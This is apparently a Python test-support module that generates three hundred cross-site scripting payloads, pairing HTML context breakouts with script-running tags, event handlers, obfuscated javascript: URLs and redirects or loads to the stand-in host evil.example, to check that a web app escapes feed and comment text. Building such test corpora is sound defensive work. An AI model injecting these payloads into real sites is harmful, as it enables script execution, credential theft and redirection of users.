"""Three hundred texts that an attacker would put into a feed or a comment, of many kinds."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product

from tests.support.web_attacks import CALL, PAYLOADS

#: How many there are.
COUNT = 300

#: What ends the place where a text is printed: a tag, a value, a comment, a raw element.
_ENDS = (
    *("", '">', "'>", "-->", "]]>", "*/", "`>", "</title>", "</textarea>", "</style>", "</script>"),
    *("</pre>", "</option></select>", "</svg>", "</iframe>", "</a>", "</td></tr></table>", '"/>'),
)
#: What then acts: a script, a handler, a foreign namespace, a style, a frame, a redirect.
_ACTS = (
    "<script>{call}</script>",
    "<script type=module>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg/onload={call}>",
    "<svg><set attributeName=href to=javascript:{call} /></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{call}>x</maction></math>",
    "<video src=x onerror={call}></video>",
    "<details open ontoggle={call}><summary>x</summary></details>",
    "<input autofocus onfocus={call}>",
    "<body onpageshow={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<object data='data:text/html,<script>{call}</script>'></object>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=prefetch href=//evil.example/p>",
    "<style>*{{background:url(//evil.example/s)}}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/ id=f><button autofocus>x</button></form>",
)
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:")
_OTHER_SCHEMES = ("vbscript:", "data:text/html,", "blob:", "view-source:javascript:")
#: Where an address is printed into a tag.
_URLS = (
    *(f"{scheme}{CALL}" for scheme in (*_SCHEMES, *_OTHER_SCHEMES)),
    f'https://evil.example/"onmouseover="{CALL}',
    f"https://evil.example/'onfocus='{CALL}' autofocus='",
    f"https://evil.example/><script>{CALL}</script>",
    f"https://evil.example/`onerror={CALL}`",
    "//evil.example/",
    "/editions/1/approve/withdraw",
)


def _all() -> Iterator[str]:
    yield from PAYLOADS
    for end, act in product(_ENDS, _ACTS):
        yield end + act.format(call=CALL)


def payloads() -> tuple[str, ...]:
    """Return the texts, all different."""
    # Every second combination, so that all ends and all acts are among them.
    distinct = list(dict.fromkeys(_all()))
    first, rest = distinct[: len(PAYLOADS)], distinct[len(PAYLOADS) :]
    return tuple(first + list(islice(rest, COUNT - len(first))))


def hostile_urls() -> tuple[str, ...]:
    """Return addresses that act when they are opened, or that leave their attribute."""
    return _URLS
